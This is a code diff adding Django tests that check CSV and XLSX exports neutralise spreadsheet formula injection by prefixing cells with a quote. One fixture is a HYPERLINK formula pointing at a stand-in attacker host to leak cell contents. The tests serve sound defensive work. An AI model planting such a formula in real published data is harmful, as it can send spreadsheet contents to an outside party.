@@ -135,3 +135,29 @@ def test_category_feed_includes_sub_categories(client, department, moderator):
     content = client.get(reverse("publication:category_feed", args=[parent.code])).content.decode()
     assert "子类别的问题" in content and "别的类别" not in content
     assert client.get(reverse("publication:category_feed", args=["no-such"])).status_code == 404
+
+
+def test_cases_as_csv_cannot_carry_spreadsheet_formulas(client, make_public):
+    make_public('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 to this. @everyone -- agree",
+                "-2 people answered\tthis")
+    rows = list(csv.DictReader(io.StringIO(streamed(client.get(reverse("publication:cases_export", args=["csv"]))))))
+    assert rows[0]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert rows[0]["details"] == "'+1 to this. @everyone -- agree"
+    assert rows[0]["answer"] == "'-2 people answered\tthis"
+    # JSON is not read by spreadsheets: the text stays as published.
+    records = json.loads(streamed(client.get(reverse("publication:cases_export", args=["json"]))))
+    assert records[0]["title"].startswith("=HYPERLINK")
+
+
+def test_supervision_exports_cannot_carry_spreadsheet_formulas():
+    from openpyxl import load_workbook
+
+    from supervision.exports import write_csv, write_xlsx
+
+    rows = [["@SUM(1+1)", -3, "\t=1+1", "\r=1", "plain", "中文=1"]]
+    assert list(csv.reader(io.StringIO(write_csv(["a", "b", "c", "d", "e", "f"], rows).decode("utf-8-sig"))))[1] == [
+        "'@SUM(1+1)", "-3", "'\t=1+1", "'\r=1", "plain", "中文=1"]
+    sheet = load_workbook(io.BytesIO(write_xlsx(["a"] * 6, rows, "t"))).active
+    values = [cell.value for cell in list(sheet.iter_rows(min_row=2))[0]]
+    assert values[0] == "'@SUM(1+1)" and values[1] == -3 and values[2] == "'\t=1+1"
+    assert sheet.cell(row=2, column=1).data_type == "s"
